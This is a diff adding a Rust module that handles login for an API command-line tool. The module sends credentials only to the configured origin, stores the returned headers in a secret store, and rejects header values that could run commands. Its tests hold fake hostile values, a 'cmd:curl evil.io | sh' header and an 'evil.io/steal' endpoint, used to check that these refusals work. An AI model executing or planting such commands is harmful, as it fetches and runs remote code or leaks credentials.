@@ -0,0 +1,348 @@
+use super::files::FileAction;
+use super::{policy, InstructionContext};
+use crate::config::data::Config;
+use crate::config::saver::save_config;
+use crate::request::{apply_default_headers, resolve_url, same_origin};
+use crate::secrets::{secret_name, SecretStore, COMMAND_PREFIX, SECRET_PREFIX};
+use crate::utils::prompt::{ask, ask_secret};
+use reqwest::blocking::Client;
+use serde::Deserialize;
+use serde_json::{Map, Value};
+use std::collections::HashMap;
+use std::fs;
+use std::io;
+use std::path::Path;
+
+/// Content of an `auth` instruction: what to show and ask, and where to send
+/// the answers.
+#[derive(Debug, Deserialize)]
+struct AuthContent {
+    #[serde(default)]
+    message: Option<String>,
+    /// Opened in the browser before asking, e.g. a page showing an API token.
+    #[serde(default)]
+    url: Option<String>,
+    #[serde(default)]
+    fields: Vec<AuthField>,
+    endpoint: String,
+}
+
+#[derive(Debug, Deserialize)]
+pub struct AuthField {
+    pub name: String,
+    #[serde(default)]
+    pub label: Option<String>,
+    /// Typed without echo.
+    #[serde(default)]
+    pub secret: bool,
+}
+
+#[derive(Debug, Deserialize)]
+struct AuthResponse {
+    #[serde(default)]
+    headers: HashMap<String, String>,
+    #[serde(default)]
+    message: Option<String>,
+}
+
+/// Asks for a field on the terminal.
+pub fn ask_field(field: &AuthField) -> Result<String, String> {
+    let label = field.label.as_deref().unwrap_or(&field.name);
+    if field.secret {
+        ask_secret(label)
+    } else {
+        ask(label, None)
+    }
+}
+
+fn error_message(body: &str) -> Option<String> {
+    let body: Value = serde_json::from_str(body).ok()?;
+    ["message", "error"]
+        .iter()
+        .find_map(|key| body.get(key).and_then(Value::as_str))
+        .map(str::to_string)
+}
+
+/// The config file, or a new one when there is none. A file that can't be
+/// read is an error, so that saving doesn't replace it.
+fn read_existing_config(config_path: &Path) -> Result<Config, String> {
+    match fs::read_to_string(config_path) {
+        Ok(content) => serde_json::from_str(&content)
+            .map_err(|e| format!("Invalid configuration {}: {}", config_path.display(), e)),
+        Err(err) if err.kind() == io::ErrorKind::NotFound => Ok(Config::default()),
+        Err(err) => Err(format!("Failed to read {}: {}", config_path.display(), err)),
+    }
+}
+
+/// Writes the headers to the active profile of the config file, replacing
+/// headers with the same name in another case. Values go into the secret
+/// store, the config only keeps `secret:` references to them.
+fn save_headers(
+    config_path: &Path,
+    profile_name: &str,
+    base_url: &str,
+    headers: &HashMap<String, String>,
+) -> Result<(), String> {
+    let mut config = read_existing_config(config_path)?;
+    if config.base_url.is_empty() && config.profiles.is_empty() {
+        config.base_url = base_url.to_string();
+    }
+
+    let mut profile = config
+        .profile(profile_name)
+        .ok_or_else(|| format!("Unknown profile: {}", profile_name))?;
+    let mut store = SecretStore::open(config_path)?;
+    let saved = profile.headers.get_or_insert_with(HashMap::new);
+    for (key, value) in headers {
+        let name = secret_name(profile_name, key);
+        // Drop the secrets of the headers being replaced
+        saved.retain(|existing, previous| {
+            if !existing.eq_ignore_ascii_case(key) {
+                return true;
+            }
+            if let Some(previous) = previous.strip_prefix(SECRET_PREFIX) {
+                if previous != name {
+                    store.remove(previous);
+                }
+            }
+            false
+        });
+        store.set(&name, value);
+        saved.insert(key.clone(), format!("{}{}", SECRET_PREFIX, name));
+    }
+    config.set_profile(profile_name, profile);
+
+    store.save()?;
+    if save_config(&config, config_path) {
+        Ok(())
+    } else {
+        Err("Error while saving the configuration.".to_string())
+    }
+}
+
+/// Opens the `url` of an `auth` instruction like an `open_url` instruction,
+/// under the execute policy.
+fn open_url(url: &str, context: &InstructionContext) -> Result<(), String> {
+    let action = FileAction::parse("open_url", Some(url))?;
+    let display = action.display();
+    let permitted = policy::permit(&display, context)
+        .map_err(|reason| format!("Not opening {} ({})", url, reason))?;
+    if permitted {
+        let performed = action.perform(context);
+        let code = if performed.is_ok() { 0 } else { 1 };
+        policy::audit(context, &display, "ran", Some(code));
+        performed?;
+    }
+    Ok(())
+}
+
+/// Runs an `auth` instruction: asks for the fields, posts them as JSON to the
+/// endpoint and saves the headers the server answers with.
+pub fn authenticate(
+    content: Option<&str>,
+    context: &mut InstructionContext,
+    answer: &mut dyn FnMut(&AuthField) -> Result<String, String>,
+) -> Result<(), String> {
+    let content: AuthContent = serde_json::from_str(content.unwrap_or_default())
+        .map_err(|e| format!("Invalid auth instruction: {}", e))?;
+    let base_url = context
+        .config
+        .as_ref()
+        .ok_or("No configuration to authenticate with.")?
+        .base_url
+        .clone();
+    // Credentials only go to the API itself
+    if !same_origin(&content.endpoint, &base_url) {
+        return Err(format!(
+            "Refusing to send credentials to {}: it is not on {}",
+            content.endpoint, base_url
+        ));
+    }
+
+    if let Some(message) = &content.message {
+        println!("{}", message);
+    }
+    if let Some(url) = &content.url {
+        open_url(url, context)?;
+    }
+
+    let mut credentials = Map::new();
+    for field in &content.fields {
+        credentials.insert(field.name.clone(), Value::String(answer(field)?));
+    }
+    let config = context
+        .config
+        .as_mut()
+        .ok_or("No configuration to authenticate with.")?;
+
+    let request = Client::new()
+        .post(resolve_url(&config.base_url, &content.endpoint))
+        .json(&credentials);
+    let response = apply_default_headers(request, config, &context.executable_name)
+        .send()
+        .map_err(|e| format!("Authentication request failed: {}", e))?;
+
+    let status = response.status();
+    let body = response.text().unwrap_or_default();
+    if !status.is_success() {
+        return Err(error_message(&body)
+            .unwrap_or_else(|| format!("Authentication failed with status {}", status)));
+    }
+
+    let auth: AuthResponse = serde_json::from_str(&body)
+        .map_err(|e| format!("Invalid authentication response: {}", e))?;
+    if auth.headers.is_empty() {
+        return Err("The server sent no headers to save.".to_string());
+    }
+    // These would be resolved on every later request, running commands
+    let reference = auth.headers.iter().find(|(_, value)| {
+        let value = value.trim_start();
+        value.starts_with(SECRET_PREFIX) || value.starts_with(COMMAND_PREFIX)
+    });
+    if let Some((key, _)) = reference {
+        return Err(format!(
+            "Refusing to save header {}: its value starts with {} or {}",
+            key, SECRET_PREFIX, COMMAND_PREFIX
+        ));
+    }
+
+    save_headers(
+        &context.config_path,
+        &context.profile,
+        &config.base_url,
+        &auth.headers,
+    )?;
+
+    // Later requests of this run use the new headers too
+    let headers = config.headers.get_or_insert_with(HashMap::new);
+    for (key, value) in auth.headers {
+        headers.retain(|existing, _| !existing.eq_ignore_ascii_case(&key));
+        headers.insert(key, value);
+    }
+
+    if !context.quiet {
+        println!("{}", auth.message.as_deref().unwrap_or("Logged in."));
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::loader::read_config;
+    use crate::utils::test_server::serve;
+    use tempfile::TempDir;
+
+    fn context(base_url: &str, temp_dir: &TempDir) -> InstructionContext {
+        InstructionContext {
+            executable_name: "my-api".to_string(),
+            config: Some(Config {
+                base_url: base_url.to_string(),
+                ..Default::default()
+            }),
+            config_path: temp_dir.path().join("config.json"),
+            profile: "default".to_string(),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn test_authenticate_saves_headers() {
+        let (url, requests) = serve(vec![(
+            200,
+            r#"{"headers": {"Authorization": "Bearer abc"}, "message": "Welcome back!"}"#,
+        )]);
+        let temp_dir = TempDir::new().unwrap();
+        let mut context = context(&url, &temp_dir);
+
+        let content = r#"{"endpoint": "/auth/login", "fields": [
+            {"name": "email"}, {"name": "password", "secret": true}]}"#;
+        let mut answer = |field: &AuthField| {
+            Ok(match field.secret {
+                true => "hunter2".to_string(),
+                false => "me@example.com".to_string(),
+            })
+        };
+        authenticate(Some(content), &mut context, &mut answer).unwrap();
+
+        let request = &requests.lock().unwrap()[0];
+        assert_eq!(request.method, "POST");
+        assert_eq!(request.path, "/auth/login");
+        assert_eq!(
+            serde_json::from_str::<Value>(&request.body).unwrap(),
+            serde_json::json!({"email": "me@example.com", "password": "hunter2"})
+        );
+
+        // The config only refers to the token, kept in the secret store
+        let saved = read_config(&context.config_path).unwrap();
+        let name = secret_name("default", "Authorization");
+        assert_eq!(saved.base_url, url);
+        assert_eq!(
+            saved.headers.unwrap()["Authorization"],
+            format!("secret:{}", name)
+        );
+        let store = SecretStore::open(&context.config_path).unwrap();
+        assert_eq!(store.get(&name), Some("Bearer abc"));
+        assert_eq!(
+            context.config.unwrap().headers.unwrap()["Authorization"],
+            "Bearer abc"
+        );
+    }
+
+    #[test]
+    fn test_authenticate_failure() {
+        let (url, _) = serve(vec![(401, r#"{"error": "Wrong password"}"#)]);
+        let temp_dir = TempDir::new().unwrap();
+        let mut context = context(&url, &temp_dir);
+
+        let content = r#"{"endpoint": "login", "fields": [{"name": "password"}]}"#;
+        let mut answer = |_: &AuthField| Ok("wrong".to_string());
+        assert_eq!(
+            authenticate(Some(content), &mut context, &mut answer).unwrap_err(),
+            "Wrong password"
+        );
+        assert!(read_config(&context.config_path).is_none());
+
+        assert!(authenticate(Some("{}"), &mut context, &mut answer)
+            .unwrap_err()
+            .starts_with("Invalid auth instruction"));
+    }
+
+    #[test]
+    fn test_authenticate_refuses_foreign_endpoint_and_references() {
+        let (url, requests) = serve(vec![(
+            200,
+            r#"{"headers": {"X-Token": "cmd:curl evil.io | sh"}}"#,
+        )]);
+        let temp_dir = TempDir::new().unwrap();
+        let mut context = context(&url, &temp_dir);
+        let mut answer = |_: &AuthField| Ok("hunter2".to_string());
+
+        let foreign = r#"{"endpoint": "https://evil.io/steal", "fields": [{"name": "password"}]}"#;
+        assert!(authenticate(Some(foreign), &mut context, &mut answer)
+            .unwrap_err()
+            .starts_with("Refusing to send credentials"));
+        assert!(requests.lock().unwrap().is_empty());
+
+        let content = r#"{"endpoint": "/login", "fields": [{"name": "password"}]}"#;
+        assert!(authenticate(Some(content), &mut context, &mut answer)
+            .unwrap_err()
+            .starts_with("Refusing to save header X-Token"));
+        assert!(read_config(&context.config_path).is_none());
+    }
+
+    #[test]
+    fn test_invalid_config_is_not_overwritten() {
+        let temp_dir = TempDir::new().unwrap();
+        let config_path = temp_dir.path().join("config.json");
+        fs::write(&config_path, "{ not json").unwrap();
+
+        let headers = [("Authorization".to_string(), "Bearer abc".to_string())].into();
+        assert!(
+            save_headers(&config_path, "default", "https://api.example.com", &headers)
+                .unwrap_err()
+                .starts_with("Invalid configuration")
+        );
+        assert_eq!(fs::read_to_string(&config_path).unwrap(), "{ not json");
+    }
+}